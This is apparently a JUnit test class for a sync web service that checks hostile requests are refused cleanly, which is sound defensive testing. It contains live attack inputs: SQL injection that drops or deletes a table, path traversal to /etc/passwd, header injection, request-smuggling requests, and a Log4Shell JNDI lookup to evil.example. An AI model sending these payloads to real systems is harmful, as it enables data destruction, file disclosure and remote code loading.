package io.catalogsync.web;

import static io.catalogsync.web.ServiceClient.json;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.Socket;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;

/** What nobody sends who means well, over real HTTP: a problem each time, and nothing lost. */
class HostileRequestsTest extends SharedService {
  private static final List<String> INJECTIONS =
      List.of(
          "'; DROP TABLE meta_runs; --",
          "meta_runs]; DELETE FROM [odibi_system].[meta_runs",
          "../../../../etc/passwd",
          "..\\\\..\\\\windows\\\\win.ini",
          "%2e%2e%2fetc%2fpasswd",
          "meta_runs\\u0000",
          "meta_runs\\r\\nX-Injected: yes",
          "${jndi:ldap://evil.example/a}",
          "<script>alert(1)</script>",
          "\\ud800",
          "x".repeat(300));

  private final List<Long> rows = new ArrayList<>();

  @AfterEach
  void nothingIsLost() {
    assertThat(service.get("/actuator/health/liveness").statusCode()).isEqualTo(200);
    JsonNode table = service.table("sales", "meta_runs");
    assertThat(table.get("rows").asLong()).isPositive();
    assertThat(rows).allMatch(before -> before == table.get("rows").asLong());
  }

  @Test
  void injectionsAreRefusedInEveryField() {
    rows.add(service.table("sales", "meta_runs").get("rows").asLong());
    for (String text : INJECTIONS) {
      for (String body :
          List.of(
              "{\"project\": \"" + text + "\"}",
              "{\"environment\": \"" + text + "\"}",
              "{\"mode\": \"" + text + "\"}",
              "{\"tables\": [\"meta_runs\", \"" + text + "\"]}",
              "{\"" + text + "\": 1}")) {
        for (String path : List.of("/sync", "/sync/pause", "/sync/resume", "/sync/purge")) {
          assertProblem(service.post(path, body), 400, body);
        }
        HttpResponse<String> event =
            service.post(EVENTS, "{\"metadata\": " + body + ", \"event_type\": \"on_start\"}");
        assertThat(event.statusCode()).as(body).isEqualTo(202);
      }
    }
  }

  @Test
  void injectionsAreRefusedInTheAddress() throws IOException {
    for (String path :
        List.of(
            "/sync/..%2f..%2fetc%2fpasswd",
            "/sync/%2e%2e/status",
            "//sync/status",
            "/sync;a=b/status",
            "/sync/status/../../actuator/env",
            "/sync/status?project=%27%3B%20DROP%20TABLE%20meta_runs",
            "/sync/%00",
            "/sync/a%0d%0aX-Injected:%20yes",
            "/sync/'%20OR%201=1",
            "/sync/x|y",
            "/actuator/catalogsync/%2e%2e%2f",
            "/assets/..%2f..%2fapplication.yaml",
            "/sync/" + "a".repeat(4000))) {
      String answer = new RawHttp(port).ask("GET " + path + " HTTP/1.1\r\n" + RawHttp.head(""));
      assertThat(answer).as(path).startsWith("HTTP/1.1 4").contains("application/problem+json");
      assertThat(answer)
          .as(path)
          .contains("\"code\"", "\"hint\"")
          .doesNotContain("X-Injected: yes");
      assertThat(answer).doesNotContain("Exception", "io.catalogsync", "<html", "root:");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "NONSENSE\r\n\r\n",
        "GET /sync/status HTTP/9.9\r\n\r\n",
        "GET /sync/status HTTP/1.1\r\n\r\n",
        "POST /sync HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
        "POST /sync HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n",
        "POST /sync HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\nZ\r\n",
        "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"
      })
  void whatIsNotHttpIsRefused(String request) throws IOException {
    String answer = new RawHttp(port).ask(request);
    assertThat(answer).startsWith("HTTP/1.1 ").doesNotContain("<html", "Exception", "Tomcat");
    assertThat(answer.substring(9, 12)).matches("40\\d|505|501");
  }

  @Test
  void headersThatAreTooLongAreRefused() throws IOException {
    String answer =
        new RawHttp(port)
            .ask(
                "GET /sync/status HTTP/1.1\r\n"
                    + RawHttp.head("X-Long: " + "a".repeat(9000) + "\r\n"));
    assertThat(answer).startsWith("HTTP/1.1 4").doesNotContain("<html", "Exception");
  }

  static List<byte[]> unreadable() {
    return List.of(
        RawHttp.bytes("{"),
        RawHttp.bytes("[]"),
        RawHttp.bytes("7"),
        RawHttp.bytes("null"),
        RawHttp.bytes("{} {}"),
        RawHttp.bytes("{\"project\": \"sales\", \"project\": \"busy\"}"),
        RawHttp.bytes("{\"dryRun\": NaN}"),
        RawHttp.bytes("{\"project\": Infinity}"),
        RawHttp.bytes("{'project': 'sales'}"),
        RawHttp.bytes("[".repeat(100_000)),
        RawHttp.bytes("{\"a\":".repeat(100_000)),
        RawHttp.bytes("{\"project\": " + "1".repeat(5000) + "}"),
        new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xff, (byte) 0xfe, '"', '}'},
        new byte[] {(byte) 0xc0, (byte) 0x80},
        new byte[1000]);
  }

  @ParameterizedTest
  @MethodSource("unreadable")
  void unreadableBodiesAreRefusedWhereSomethingIsAskedFor(byte[] body) {
    for (String path : List.of("/sync", "/sync/pause", "/sync/resume")) {
      HttpResponse<String> answer = service.send(path, posted(body));
      assertProblem(
          answer, 400, new String(body, 0, Math.min(40, body.length), StandardCharsets.UTF_8));
    }
    for (String path : List.of(EVENTS, "/api/v1/lineage")) {
      assertThat(service.send(path, posted(body)).statusCode()).isEqualTo(202);
      assertThat(ServiceClient.stranger(port).send(path, posted(body)).statusCode()).isEqualTo(401);
    }
  }

  private static HttpRequest.Builder posted(byte[] body) {
    return HttpRequest.newBuilder()
        .header("Content-Type", "application/json")
        .POST(BodyPublishers.ofByteArray(body));
  }

  @Test
  void everyMistakeIsNamed() {
    HttpResponse<String> answer =
        service.post(
            "/sync",
            """
            {"project": 7, "environment": "", "tables": ["meta_runs", null], "mode": "sideways",
             "dryRun": "yes", "tabels": []}
            """);
    assertProblem(answer, 400, "all wrong");
    JsonNode problems = json(answer).get("problems");
    assertThat(problems.size()).isEqualTo(6);
    for (String field : List.of("project", "environment", "tables", "mode", "dryRun", "tabels")) {
      assertThat(problems.toString()).contains(field);
      assertThat(json(answer).get("detail").asString()).contains(field);
    }
  }

  @ParameterizedTest
  @CsvSource({
    "GET, /nothing/here, 404, ROUTE_UNKNOWN",
    "POST, /nothing/here, 404, ROUTE_UNKNOWN",
    "DELETE, /sync, 405, METHOD_NOT_ALLOWED",
    "PUT, /sync/status, 405, METHOD_NOT_ALLOWED",
    "GET, /sync/pause, 404, SYNC_UNKNOWN",
    "PATCH, /events/run-completed, 405, METHOD_NOT_ALLOWED"
  })
  void whatIsNotThereIsAProblem(String method, String path, int status, String code) {
    HttpResponse<String> answer =
        service.send(path, HttpRequest.newBuilder().method(method, BodyPublishers.noBody()));
    assertProblem(answer, status, method + " " + path);
    assertThat(json(answer).get("code").asString()).isEqualTo(code);
  }

  @Test
  void typesNobodySpeaksAreAProblem() {
    HttpResponse<String> form = service.post("/sync", "application/x-www-form-urlencoded", "a=b");
    assertProblem(form, 415, "form");
    assertThat(json(form).get("code").asString()).isEqualTo("MEDIA_TYPE_UNSUPPORTED");
    assertThat(json(form).get("hint").asString()).contains("application/json");
    HttpResponse<String> image =
        service.send("/sync/x", HttpRequest.newBuilder().header("Accept", "image/png"));
    assertThat(image.statusCode()).isIn(404, 406);
    assertThat(image.headers().firstValue("Content-Type")).contains("application/problem+json");
  }

  @Test
  void aRangeOfTypesIsNoType() {
    for (String path : List.of("/sync", EVENTS, "/api/v1/lineage")) {
      assertProblem(service.post(path, "*/*", "{}"), 415, path);
      assertProblem(service.post(path, "application/*", "{}"), 415, path);
    }
  }

  @Test
  void parametersWithoutAReadableNameAreRefused() {
    for (String path : List.of("/actuator/catalogsync", "/sync/status")) {
      assertThat(service.get(path + "?%00=x").statusCode()).as(path).isIn(200, 400);
      assertThat(service.get(path + "?%C2%85=x").statusCode()).as(path).isIn(200, 400);
    }
    assertProblem(service.get("/actuator/catalogsync?%00=x"), 400, "a parameter named U+0000");
    assertProblem(service.get("/sync/status?=x"), 400, "a parameter without a name");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "GET /sync", "GET /sync/status HTTP/1.1\r\nHost: x\r\nX-Y"})
  void whoFallsSilentIsCutOff(String start) throws IOException {
    try (Socket socket = new Socket("localhost", port)) {
      socket.setSoTimeout(30_000);
      socket.getOutputStream().write(RawHttp.bytes(start));
      assertThat(RawHttp.answer(socket)).doesNotContain("200 OK");
    }
  }

  private static void assertProblem(HttpResponse<String> answer, int status, String what) {
    assertThat(answer.statusCode()).as("%s: %s", what, answer.body()).isEqualTo(status);
    assertThat(answer.headers().firstValue("Content-Type"))
        .as(what)
        .contains("application/problem+json");
    JsonNode problem = json(answer);
    assertThat(problem.get("status").asInt()).isEqualTo(status);
    assertThat(problem.get("type").asString()).startsWith("urn:catalog-sync:problem:");
    assertThat(problem.get("code").asString()).matches("[A-Z_]+");
    assertThat(problem.get("hint").asString()).isNotEmpty();
    assertThat(answer.body())
        .doesNotContain("\\tat ", "trace", "Exception", "io.catalogsync", "<script>");
  }
}
